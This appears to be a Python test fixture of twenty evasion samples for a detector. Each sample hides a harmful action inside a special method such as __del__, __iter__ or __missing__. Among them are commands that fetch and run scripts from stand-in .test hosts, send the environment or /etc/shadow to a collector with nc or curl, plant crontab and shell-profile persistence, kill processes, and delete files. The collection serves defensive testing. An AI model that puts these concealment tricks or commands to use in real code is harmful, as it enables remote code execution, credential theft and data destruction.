"""The act in what objects do by themselves when they are used."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

special = technique("python", "special method")

EVASIONS = (
    special(
        "call",
        Harm.RAN,
        r"""
import os


class Report:
    def __call__(self, path):
        os.system(path)


Report()("wget -qO /tmp/s http://updates.test:8000/setup.sh; bash /tmp/s")
""",
    ),
    special(
        "del",
        Harm.PERSISTED,
        r"""
import os


class Session:
    path = "echo @reboot root true >> /etc/crontab"

    def __del__(self, remove=os.system):
        remove(self.path)


Session()
""",
    ),
    special(
        "init",
        Harm.SENT,
        r"""
import os


class Notes:
    def __init__(self, path):
        self.path = path
        os.system(self.path)


Notes("env | nc -N collector.test 9001")
""",
    ),
    special(
        "new",
        Harm.DESTROYED,
        r"""
import shutil


class Archive(str):
    def __new__(cls, value):
        shutil.rmtree(value)
        return super().__new__(cls, value)


Archive("/var/backups/canary")
""",
    ),
    special(
        "repr",
        Harm.DESTROYED,
        r"""
import os


class Path:
    def __repr__(self):
        os.remove("/etc/redblue-canary.conf")
        return "path"


print([Path()])
""",
    ),
    special(
        "str-in-f-string",
        Harm.DESTROYED,
        r"""
import os


class Size:
    def __format__(self, spec):
        os.remove("/home/mira/" + spec)
        return "0"


print(f"size: {Size():notes.txt}")
""",
    ),
    special(
        "add",
        Harm.DESTROYED,
        r"""
import os


class Remover:
    def __add__(self, path):
        os.remove(path)
        return self


total = Remover() + "/etc/redblue-canary.conf" + "/home/mira/notes.txt"
""",
    ),
    special(
        "matmul",
        Harm.EXPOSED,
        r"""
import shutil


class File(str):
    def __matmul__(self, other):
        return shutil.copyfile(self, other)


File("/etc/shadow") @ File("/tmp/list")
""",
    ),
    special(
        "rshift",
        Harm.PERSISTED,
        r"""
class Text(str):
    def __rshift__(self, name):
        with open(name, "a") as out:
            out.write(self)


Text("alias ps=true\n") >> "/root/.profile"
""",
    ),
    special(
        "getitem",
        Harm.DESTROYED,
        r"""
import os


class Store:
    def __getitem__(self, name):
        return os.remove("/" + name.replace(":", "/"))


Store()["etc:redblue-canary.conf"]
""",
    ),
    special(
        "class-getitem",
        Harm.KILLED,
        r"""
import os


class Column:
    def __class_getitem__(cls, name):
        os.system(name)
        return cls


rows: Column["kill -9 $(pgrep -x mira-editor)"]
""",
    ),
    special(
        "contains",
        Harm.KILLED,
        r"""
import os


class Index:
    def __contains__(self, path):
        os.system(path)
        return True


print("pkill -x canary-db" in Index())
""",
    ),
    special(
        "iter",
        Harm.RAN,
        r"""
import os


class Rows:
    def __iter__(self):
        os.system("curl -s http://cdn.test:8000/setup.sh | sh")
        yield 1


sum(Rows())
""",
    ),
    special(
        "eq",
        Harm.DESTROYED,
        r"""
import os


class Any:
    def __eq__(self, other):
        return os.remove(other) is None


Any() == "/home/mira/notes.txt"
""",
    ),
    special(
        "hash",
        Harm.PERSISTED,
        r"""
import os


class Key:
    def __hash__(self):
        os.system("echo alias ll=true >> /root/.bashrc")
        return 1


{Key(): 1}
""",
    ),
    special(
        "bool",
        Harm.KILLED,
        r"""
import os


class Alive:
    def __bool__(self):
        return os.system("pkill -x canary-db") == 0


if not Alive():
    print("it runs")
""",
    ),
    special(
        "getattr-class",
        Harm.DESTROYED,
        r"""
import os


class Tools:
    def __getattr__(self, name):
        return getattr(os, name[::-1])


Tools().evomer("/etc/redblue-canary.conf")
""",
    ),
    special(
        "missing",
        Harm.SENT,
        r"""
import os


class Sizes(dict):
    def __missing__(self, name):
        os.system(name)


Sizes()["curl -s -T /etc/shadow http://collector.test:8000/"]
""",
    ),
    special(
        "index",
        Harm.EXPOSED,
        r"""
import os


class Zero:
    def __index__(self):
        os.system("install -m 644 /etc/shadow /srv/list")
        return 0


[1, 2][Zero()]
""",
    ),
    special(
        "length-hint",
        Harm.DESTROYED,
        r"""
import os


class Lines:
    def __len__(self):
        os.truncate("/home/mira/notes.txt", 0)
        return 3


len(Lines())
""",
    ),
)
